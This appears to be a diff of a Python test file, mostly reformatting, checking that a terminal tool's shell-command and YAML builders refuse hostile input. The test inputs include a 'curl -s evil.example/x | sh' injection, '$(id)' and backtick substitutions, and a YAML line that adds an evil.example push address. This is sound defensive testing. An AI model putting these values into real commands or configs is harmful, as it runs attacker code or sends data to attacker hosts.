@@ -29,8 +29,10 @@ HOSTILE = [
 
 
 @pytest.mark.parametrize("value", HOSTILE)
-@pytest.mark.parametrize("kind", [commands.host, commands.address, commands.tag, commands.image, commands.token, commands.uuid,
-                                  commands.path])
+@pytest.mark.parametrize(
+    "kind",
+    [commands.host, commands.address, commands.tag, commands.image, commands.token, commands.uuid, commands.path],
+)
 def test_a_hostile_value_is_refused_with_its_name_and_why(kind, value):
     with pytest.raises(CommandRefused) as refused:
         commands.command("run {x}", x=kind("the thing", value))
@@ -38,22 +40,39 @@ def test_a_hostile_value_is_refused_with_its_name_and_why(kind, value):
     assert "\n" not in refused.value.reason  # one line, the value's control characters shown escaped
 
 
-@pytest.mark.parametrize("value", ["100; curl -s evil.example/x | sh; echo", "0", "4095", "1e3", "-", "12-", "", None, " 100"])
+@pytest.mark.parametrize(
+    "value", ["100; curl -s evil.example/x | sh; echo", "0", "4095", "1e3", "-", "12-", "", None, " 100"]
+)
 def test_an_integer_outside_its_range_or_not_a_number_is_refused(value):
     with pytest.raises(CommandRefused):
         commands.command("id {v}", v=commands.integer("the VLAN id", value, 1, 4094))
 
 
-@pytest.mark.parametrize("value", ["https://x.example/p?q=1", "https://u:p@x.example/", "ftp://x.example/", "https://x.example/a b",
-                                   "https://x.example/$(id)", "https://x.example:99999/", "https://x;id/"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "https://x.example/p?q=1",
+        "https://u:p@x.example/",
+        "ftp://x.example/",
+        "https://x.example/a b",
+        "https://x.example/$(id)",
+        "https://x.example:99999/",
+        "https://x;id/",
+    ],
+)
 def test_a_url_that_is_not_plain_is_refused(value):
     with pytest.raises(CommandRefused):
         commands.config("url: {u}", u=commands.url("the address", value))
 
 
 def test_plain_values_are_built_and_shell_quoted():
-    made = commands.command("docker pull {h}/{n}:{t} {p}", h=commands.address("h", "rg.fr-par.cr.example:5000"),
-                            n=commands.image("n", "team/web-app"), t=commands.tag("t", "v1.4.2"), p=commands.path("p", "/tmp/a b"[:6]))
+    made = commands.command(
+        "docker pull {h}/{n}:{t} {p}",
+        h=commands.address("h", "rg.fr-par.cr.example:5000"),
+        n=commands.image("n", "team/web-app"),
+        t=commands.tag("t", "v1.4.2"),
+        p=commands.path("p", "/tmp/a b"[:6]),
+    )
     assert made == "docker pull rg.fr-par.cr.example:5000/team/web-app:v1.4.2 /tmp/a"
     assert commands.command("x {p}", p=commands.path("p", "a:b=c")) == "x " + shlex.quote("a:b=c")
     assert commands.command("id {v}", v=commands.integer("v", 100, 1, 4094)) == "id 100"
@@ -61,14 +80,19 @@ def test_plain_values_are_built_and_shell_quoted():
 
 
 def test_a_configuration_writes_each_value_as_a_quoted_yaml_string():
-    made = commands.config("url: {u}\ntoken: {t}", u=commands.url("u", "https://m.example/api/v1/push"), t=commands.token("t", "0123"))
+    made = commands.config(
+        "url: {u}\ntoken: {t}", u=commands.url("u", "https://m.example/api/v1/push"), t=commands.token("t", "0123")
+    )
     assert made == 'url: "https://m.example/api/v1/push"\ntoken: "0123"'  # a token of digits stays a string
     assert json.loads(made.split("token: ")[1]) == "0123"
 
 
 def test_the_secret_key_goes_only_to_a_host_of_the_profiles_origins():
     origins = ("https://api.example", "https://genai.example", "https://rg.fr-par.cr.example")
-    assert commands.key_goes_to(commands.host("the registry host", "rg.fr-par.cr.example"), origins) == "rg.fr-par.cr.example"
+    assert (
+        commands.key_goes_to(commands.host("the registry host", "rg.fr-par.cr.example"), origins)
+        == "rg.fr-par.cr.example"
+    )
     with pytest.raises(CommandRefused) as refused:
         commands.key_goes_to(commands.host("the registry host", "rg.evil.example"), origins)
     assert "allowed_origins" in refused.value.reason and "rg.evil.example" in refused.value.reason
@@ -84,12 +108,21 @@ def namespace(endpoint):
 def test_registry_login_from_a_hostile_endpoint_is_refused():
     from tui.products.container_registry.kinds import login_command, login_text
 
-    for endpoint in ("rg.fr-par.cr.example;id>pwned.txt;#/web", "$(id)/web", "`id`/web", "rg.example\nid/web", "rg example/web"):
+    for endpoint in (
+        "rg.fr-par.cr.example;id>pwned.txt;#/web",
+        "$(id)/web",
+        "`id`/web",
+        "rg.example\nid/web",
+        "rg example/web",
+    ):
         with pytest.raises(CommandRefused, match="the registry host"):
             login_command(namespace(endpoint))
         with pytest.raises(CommandRefused):
             login_text(namespace(endpoint))
-    assert login_command(namespace("rg.fr-par.cr.example/web")) == "docker login rg.fr-par.cr.example -u nologin --password-stdin"
+    assert (
+        login_command(namespace("rg.fr-par.cr.example/web"))
+        == "docker login rg.fr-par.cr.example -u nologin --password-stdin"
+    )
 
 
 def test_registry_login_pipes_the_key_only_to_a_registry_of_the_profiles_origins():
@@ -106,13 +139,17 @@ def test_registry_login_pipes_the_key_only_to_a_registry_of_the_profiles_origins
 def test_a_tags_pull_command_checks_its_parts():
     from tui.products.container_registry.kinds import pull_command, pull_field
 
-    image = ParentRef("i1", "frontend", "fr-par", data={"name": "frontend", "namespace_endpoint": "rg.fr-par.cr.example/web"})
+    image = ParentRef(
+        "i1", "frontend", "fr-par", data={"name": "frontend", "namespace_endpoint": "rg.fr-par.cr.example/web"}
+    )
     tag = Row({"id": "t1", "name": "v1.4.2"})
     assert pull_command(tag, image) == "docker pull rg.fr-par.cr.example/web/frontend:v1.4.2"
     for hostile in ("v1;id", "$(id)", "`id`", "v1\nid", "v 1", "'x"):
         with pytest.raises(CommandRefused, match="the tag"):
             pull_command(Row({"id": "t1", "name": hostile}), image)
-    bad_image = ParentRef("i1", "x", "fr-par", data={"name": "front;id", "namespace_endpoint": "rg.fr-par.cr.example/web"})
+    bad_image = ParentRef(
+        "i1", "x", "fr-par", data={"name": "front;id", "namespace_endpoint": "rg.fr-par.cr.example/web"}
+    )
     with pytest.raises(CommandRefused, match="the image name"):
         pull_command(tag, bad_image)
     assert pull_field({"endpoint": "rg.fr-par.cr.example/web"}) == "docker pull rg.fr-par.cr.example/web/<image>:<tag>"
@@ -135,14 +172,28 @@ def test_the_vlan_snippet_takes_only_a_vlan_number_and_a_network_id():
 def test_a_tokens_push_configurations_are_offered_only_from_plain_values():
     from tui.products.monitoring.kinds import token_once
 
-    cockpit = ParentRef("p", "Monitoring", "", data={"endpoints": {"metrics_url": "https://metrics.example", "logs_url": "https://logs.example"}})
+    cockpit = ParentRef(
+        "p",
+        "Monitoring",
+        "",
+        data={"endpoints": {"metrics_url": "https://metrics.example", "logs_url": "https://logs.example"}},
+    )
     token = Row({"id": "t1", "name": "ci", "scopes": {"write_metrics": True, "write_logs": True}})
     secrets, extras = token_once(token, {"secret_key": "0123456789"}, {}, cockpit)
     assert secrets["metrics push (prometheus.yml)"].endswith('X-Token: "0123456789"')
     assert 'url: "https://logs.example/loki/api/v1/push"' in secrets["logs push (promtail.yml)"]
 
-    hostile = ParentRef("p", "Monitoring", "", data={"endpoints": {"metrics_url": "https://metrics.example\n  - url: https://evil.example",
-                                                                   "logs_url": "https://logs.example"}})
+    hostile = ParentRef(
+        "p",
+        "Monitoring",
+        "",
+        data={
+            "endpoints": {
+                "metrics_url": "https://metrics.example\n  - url: https://evil.example",
+                "logs_url": "https://logs.example",
+            }
+        },
+    )
     secrets, extras = token_once(token, {"secret_key": "0123456789"}, {}, hostile)
     assert "metrics push (prometheus.yml)" not in secrets
     assert extras["metrics push (prometheus.yml)"].startswith("not offered: the push address")
